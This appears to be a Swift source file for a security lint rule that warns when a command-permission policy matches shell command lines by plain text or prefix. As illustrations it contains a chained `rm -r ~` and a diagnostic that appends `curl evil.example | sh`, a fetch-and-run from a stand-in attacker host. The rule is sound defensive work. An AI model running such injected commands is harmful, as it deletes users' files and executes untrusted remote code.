internal import Weir

/// A command line is searched for a text, or held against the beginning of one: `git status; rm -r
/// ~` begins with `git status`, and `r\\m` and `'rm'` are `rm`. Read it with `shell(…)`, which
/// sees the commands that it runs.
struct ShellTextMatch: LintRule {
  let name: ExactString = "shell-text-match"
  let category = LintCategory.security
  let level = LintLevel.warning

  let bad: LintExample = """
    allow looking when «command starts_with "git log"»
    """
  let good: LintExample = """
    allow looking when all(c in shell(command, "bash").commands: c.program in ["ls", "cat"])
    """

  /// Last words of the names of members that hold a command line.
  private static let names: Set<ExactString> = ["command", "cmd", "commandline", "script", "shell"]

  func findings(in context: LintContext) -> [Diagnostic] {
    context.textComparisons.compactMap { comparison -> Diagnostic? in
      guard comparison.asksForPart,
        Self.names.contains(comparison.lastWord)
          || comparison.lastWord == "line"
            && comparison.members.last?.includesIgnoringCase("command")
              == true,
        let text = comparison.texts.first(where: { $0.bytes.count > 1 })
      else { return nil }
      let path = context.excerpt(comparison.subject.range)
      return finding(
        comparison.place.opens && comparison.comparison == .startsWith
          ? "`\(VisibleText.escaped(text.description)); curl evil.example | sh` passes too"
          : comparison.place.opens
            ? "a command line with that text in it may run anything else as well"
            : "a shell has other spellings of it, as quotes around any part",
        at: comparison.range,
        hint: "ask what it runs: `shell(\(path), \"bash\").commands`")
    }
  }
}
